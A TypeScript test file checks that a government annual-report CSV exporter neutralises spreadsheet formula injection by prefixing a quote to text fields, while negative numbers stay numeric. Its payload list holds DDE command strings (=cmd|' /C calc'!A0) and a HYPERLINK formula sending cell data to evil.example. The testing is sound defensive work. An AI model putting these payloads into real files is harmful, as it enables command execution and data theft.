/**
 * CSV formula injection: a spreadsheet (Excel, WPS, LibreOffice) runs a cell that starts with = + - @
 * (and, through some import paths, tab or CR) as a formula, e.g. =HYPERLINK(…) or the DDE payload
 * =cmd|' /C calc'!A0. Every text field that could carry report text must be inert; the value column
 * holds numbers and keeps them as numbers (-2 is 本年增/减, not a formula). A validated report cannot
 * get such text into the CSV (its codes and units are checked), so these documents are deliberately
 * unvalidated: the library must be safe for callers that skip validation.
 */
import { describe, expect, it } from 'vitest';
import type { Report, Report2019 } from '@nianbao/template';
import { CSV_COLUMNS, tidyCsv, toOpenData } from '../src/index.js';
import { clone, examples } from './examples.js';

const r2019 = examples[0]!.report as Report2019;
const r2021: Report = examples[1]!.report;

/** RFC 4180 reader for the test (BOM, quoted fields, doubled quotes, CRLF). */
function rows(csv: string): Record<(typeof CSV_COLUMNS)[number], string>[] {
  const text = csv.replace(/^\uFEFF/, '');
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), out.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  const [header, ...body] = out;
  expect(header).toEqual([...CSV_COLUMNS]);
  return body.map(
    (fields) =>
      Object.fromEntries(CSV_COLUMNS.map((name, i) => [name, fields[i]!])) as Record<
        (typeof CSV_COLUMNS)[number],
        string
      >,
  );
}

const NUMBER = /^-?(0|[1-9][0-9]*)(\.[0-9]+)?$/;
const TRIGGER = /^[=+\-@\t\r]/;

/** No field of the CSV starts a formula, except numbers in the value column. */
function expectInert(csv: string): void {
  for (const record of rows(csv)) {
    for (const [column, value] of Object.entries(record)) {
      if (column === 'value' && NUMBER.test(value)) continue;
      expect(value, `${column}: ${JSON.stringify(value)}`).not.toMatch(TRIGGER);
    }
  }
}

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('formula injection in the tidy CSV', () => {
  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))(
    'a division code %s (the report id starts with it) gets a leading quote',
    (_name, payload) => {
      const report = clone(r2021);
      delete (report.metadata.agency as { unifiedSocialCreditCode?: string }).unifiedSocialCreditCode;
      report.metadata.agency.administrativeDivisionCode = payload;
      const csv = tidyCsv(report);
      expectInert(csv);
      const id = rows(csv)[0]!.report_id;
      // A trimmed code: leading tab or CR goes with the trim, what follows is still neutralised.
      expect(id).toBe(`'${payload.trim()}-${report.metadata.agency.name}-${report.metadata.reportYear}`);
    },
  );

  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))('a credit code %s gets a leading quote', (_name, payload) => {
    const report = clone(r2021);
    report.metadata.agency.unifiedSocialCreditCode = payload;
    const csv = tidyCsv(report);
    expectInert(csv);
    // The credit code is its own column (the report id does not use it).
    expect(rows(csv)[0]!.credit_code).toBe(`'${payload.trim()}`);
  });

  it('an agency name with a formula: its own column is prefixed; it cannot start the report id', () => {
    const report = clone(r2019);
    report.metadata.agency.name = "=cmd|' /C calc'!A0";
    const csv = tidyCsv(report);
    expectInert(csv);
    expect(rows(csv)[0]!.agency).toBe("'=cmd|' /C calc'!A0");
    expect(rows(csv)[0]!.report_id).toBe(
      `${report.metadata.agency.administrativeDivisionCode}-=cmd|' /C calc'!A0-2020`,
    );
  });

  it('text in a value or unit cell (an unvalidated document) is neutralised too', () => {
    const report = clone(r2019);
    // The 2019 procurement amount carries its own unit: both are the document's text.
    (
      report.sections.proactiveDisclosure.table.article20Item9.centralizedProcurement as { totalAmount: unknown }
    ).totalAmount = { value: '=1+1', unit: '@元' };
    const csv = tidyCsv(report);
    expectInert(csv);
    const cell = rows(csv).find((record) => record.column_id === 'totalAmount')!;
    expect(cell.value).toBe("'=1+1");
    expect(cell.unit).toBe("'@元");
  });

  it('numbers stay numbers: -2 (本年增/减) and amounts are written as they are, never quoted or prefixed', () => {
    const report = clone(r2019);
    report.sections.proactiveDisclosure.table.article20Item5.administrativeLicensing.changeThisYear = -2;
    report.sections.proactiveDisclosure.table.article20Item8.administrativeFees.changeThisYear = -15;
    report.sections.proactiveDisclosure.table.article20Item9.centralizedProcurement.totalAmount = {
      value: '59237.2449',
      unit: '万元',
    };
    const csv = tidyCsv(report);
    expectInert(csv);
    const records = rows(csv);
    const negative = records.filter((record) => record.value.startsWith('-'));
    expect(negative.map((record) => record.value).sort()).toEqual(['-15', '-2']);
    for (const record of negative) expect(record.value).toMatch(/^-[1-9][0-9]*$/);
    expect(csv).toMatch(/,-2,,\/sections\//);
    const amounts = records.filter((record) => record.unit !== '');
    expect(amounts.length).toBeGreaterThan(0);
    for (const record of amounts) expect(record.value).toMatch(NUMBER);
    // No value is ever prefixed in a valid report.
    expect(records.some((record) => record.value.startsWith("'"))).toBe(false);
  });

  it('the examples and toOpenData: every field inert, in both editions', () => {
    for (const report of [r2019, r2021]) expectInert(toOpenData(report).csv);
  });
});
